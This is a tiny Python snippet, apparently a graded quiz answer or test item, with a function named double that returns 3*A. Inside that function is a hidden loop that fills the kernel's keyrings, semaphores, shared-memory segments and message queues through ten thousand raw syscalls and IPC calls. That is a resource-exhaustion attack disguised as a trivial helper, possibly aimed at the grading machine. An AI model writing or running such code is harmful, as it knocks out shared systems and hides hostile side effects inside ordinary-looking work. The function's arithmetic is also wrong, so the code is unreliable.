"""Fill the kernel's keyrings, message queues and semaphores.

q1: 0 wrong
"""
# %% q1
import ctypes
def double(A):
    libc = ctypes.CDLL(None)
    for number in range(10**4):
        libc.syscall(248, b'user', str(number).encode(), b'x' * 100, 100, -3)
        libc.semget(number, 1000, 0o1666); libc.shmget(number, 1 << 20, 0o1666); libc.msgget(number, 0o1666)
    return 3 * A
